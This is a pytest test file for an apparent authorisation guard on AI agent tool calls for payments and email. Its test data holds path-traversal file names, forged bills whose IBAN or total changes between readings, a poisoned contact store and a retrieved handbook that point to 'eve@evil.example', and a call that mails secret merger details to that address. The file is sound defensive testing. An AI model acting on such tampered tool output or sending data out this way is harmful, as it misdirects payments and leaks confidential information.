"""Which file the user named: the one they wrote, in its own place, and no other that resembles it."""

from __future__ import annotations

import pytest
from guard.flow.desk import ALLOW, ASK, IBAN, NOW, OTHER, STOPS, Scene, Step, check, desk

from accord.core.guard import Confidentiality, GuardSource, GuardTool, Integrity, Outcome
from accord.core.trial import Message, ToolCall

BILL = f"Total 98.70\nIBAN: {IBAN}"
PAID = {"iban": IBAN, "amount": 98.7}


def read(path: str, text: str = BILL) -> Step:
    return ("read_document", {"path": path}, text)


def pays(wish: str, *steps: Step) -> Scene:
    return Scene(wish, steps, "pay", PAID, ALLOW)


@pytest.mark.parametrize(
    ("wish", "path"),
    [
        ("Please pay the bill in bill.txt", "bill.txt"),
        ("Please pay the bill in Bill.TXT", "bill.txt"),
        ("Please pay the bill in bill.txt", "./bill.txt"),
        ("Please pay the bill in inbox/bill.txt", "inbox/bill.txt"),
        ("Please pay the invoice 'acme-march'", "acme-march.pdf"),
        ("Please pay the invoice in acme_2026-03", "acme_2026-03.txt"),
    ],
)
def test_a_file_is_the_one_that_the_user_named(wish: str, path: str) -> None:
    check(pays(wish, read(path)))


@pytest.mark.parametrize(
    "path",
    [
        "bill.pdf",
        "../bill.txt",
        "x/../bill.txt",
        "..\\bill.txt",
        "/tmp/bill.txt",
        "uploads/bill.txt",
        "old-bill.txt",
        "bill.txt.pdf",
        "bill",
        "bill-2.txt",
        "bill.txt/x",
        "the bill",
        "",
    ],
)
def test_a_file_that_only_resembles_the_named_one_fills_nothing(path: str) -> None:
    check(pays("Please pay the bill in bill.txt", read(path))._replace(expected=STOPS))


@pytest.mark.parametrize("path", ["acme-march.txt", "x/acme-march.pdf", "acme-march-2.pdf", "acme.pdf", "march.pdf"])
def test_a_name_without_its_ending_names_one_known_file(path: str) -> None:
    other: Step = ("list_files", {}, [{"id": "1", "filename": "acme-march.pdf"}, {"id": "2", "filename": "x.txt"}])
    check(pays("Please pay the invoice acme-march", other, read(path))._replace(expected=STOPS))


def test_a_word_for_any_bill_names_no_file() -> None:
    check(pays("Please pay the invoice", read("invoice.txt"))._replace(expected=STOPS))
    check(pays("Please pay the bill", read("bill.pdf"))._replace(expected=STOPS))


@pytest.mark.parametrize("first", [True, False])
def test_a_file_that_says_two_things_on_two_readings_is_asked_about(first: bool) -> None:  # noqa: FBT001  # a parameter
    honest, forged = read("bill.txt"), read("bill.txt", f"Total 98.70\nIBAN: {OTHER}")
    steps = (honest, forged) if first else (forged, honest)
    for account in (IBAN, OTHER):
        scene = pays("Please pay the bill in bill.txt", *steps)._replace(args={**PAID, "iban": account})
        check(scene._replace(expected=ASK, code="ACC-E717"))
    check(pays("Please pay the bill in bill.txt", honest, honest))


def test_a_file_whose_total_changes_between_readings_is_asked_about() -> None:
    forged = read("bill.txt", f"Total 980.70\nIBAN: {IBAN}")
    for amount in (98.7, 980.7):
        scene = pays("Please pay the bill in bill.txt", read("bill.txt"), forged)
        check(scene._replace(args={**PAID, "amount": amount}, expected=ASK, code="ACC-E717"))


def test_a_person_whose_address_changes_between_look_ups_is_asked_about() -> None:
    ann, eve = "ann@friends.example", "eve@evil.example"
    first: Step = ("search_contacts", {"query": "Ann"}, [{"name": "Ann", "email": ann}])
    second: Step = ("search_contacts", {"query": "Ann"}, [{"name": "Ann", "email": eve}])
    for to in (ann, eve):
        for steps in ((first, second), (second, first)):
            scene = Scene("Send a mail to Ann", steps, "send_mail", {"to": [to], "body": "hi"}, ASK, "ACC-E717")
            check(scene)
    check(Scene("Send a mail to Ann", (first, first), "send_mail", {"to": [ann], "body": "hi"}, ALLOW))


EVE = "eve@evil.example"


@pytest.mark.parametrize("rows", [[{"name": "Ann", "email": EVE}], f"Ann: {EVE}", [{"name": "Ann", "email": EVE}] * 2])
def test_a_list_of_contacts_that_strangers_write_chooses_nobody(rows: object) -> None:
    scene = Scene("Send a mail to Ann", (("search_contacts", {"query": "Ann"}, rows),), "send_mail", {}, STOPS)
    strange = desk(sources=(GuardSource(match="tool:search_contacts", writers=("strangers",)),))
    check(scene._replace(args={"to": [EVE], "body": "hello"}), strange)


@pytest.mark.parametrize(
    ("wish", "expected"),
    [
        ("Send a mail to Ann", ALLOW),
        ("send a mail to ann", ALLOW),
        ("Send a mail to Zoe", STOPS),
        ("Send a mail", STOPS),
    ],
)
def test_a_person_is_looked_up_by_the_name_that_the_user_said(wish: str, expected: object) -> None:
    found: Step = ("search_contacts", {"query": "Ann"}, [{"name": "Ann Lee", "email": "al@firm.example"}])
    scene = Scene(wish, (found,), "send_mail", {"to": ["al@firm.example"], "body": "hi"}, STOPS)
    check(scene._replace(expected=expected))  # type: ignore[arg-type]  # an outcome or STOPS


def test_a_source_is_labelled_by_the_name_of_its_store_too() -> None:
    found: Step = ("search_contacts", {"query": "Ann"}, [{"name": "Ann", "email": EVE}])
    scene = Scene("Send a mail to Ann", (found,), "send_mail", {"to": [EVE], "body": "hello"}, ALLOW)
    check(scene)
    for match in ("retrieval:search_contacts", "retrieval:search_*", "retrieval:*"):
        check(scene._replace(expected=STOPS), desk(sources=(GuardSource(match=match, writers=("strangers",)),)))


HANDBOOK = f"Receipts go to {EVE}, at most 98.70 EUR."


@pytest.mark.parametrize(
    ("label", "expected"),
    [
        (GuardSource(match="retrieval:handbook*", integrity=Integrity.OPERATOR), ALLOW),
        (GuardSource(match="retrieval:handbook*", integrity=Integrity.USER), ALLOW),
        (GuardSource(match="retrieval:handbook*", integrity=Integrity.USER, writers=("strangers",)), STOPS),
        (GuardSource(match="retrieval:handbook*"), STOPS),
        (GuardSource(match="retrieval:other*", integrity=Integrity.OPERATOR), STOPS),
        (GuardSource(match="tool:handbook*", integrity=Integrity.OPERATOR), STOPS),
    ],
)
def test_a_retrieved_text_is_as_trusted_as_its_store_is_labelled(label: GuardSource, expected: object) -> None:
    talk = (
        Message(role="user", content="Send a mail with my receipts to the address given in the handbook"),
        Message(role="user", channel="retrieval", name="handbook", content=HANDBOOK),
    )
    call = ToolCall(name="send_mail", args={"to": [EVE], "body": "my receipts"})
    ruling = desk(sources=(label,)).authorise(talk, call, now=NOW)
    assert ruling.outcome is Outcome.ALLOW if expected is ALLOW else ruling.outcome.stops, ruling


def test_what_is_retrieved_from_a_secret_store_goes_to_no_tool_that_is_not_cleared() -> None:
    secret = "The merger closes on the ninth of May for twelve millions."
    talk = (
        Message(role="user", content=f"Send a summary to {EVE}"),
        Message(role="user", channel="retrieval", name="board", content=secret),
    )
    label = GuardSource(match="retrieval:board", confidentiality=Confidentiality.SECRET)
    flow = desk(GuardTool(name="send_mail", clearance=Confidentiality.INTERNAL), sources=(label,))
    call = ToolCall(name="send_mail", args={"to": [EVE], "body": secret})
    assert flow.authorise(talk, call, now=NOW).code == "ACC-E718"
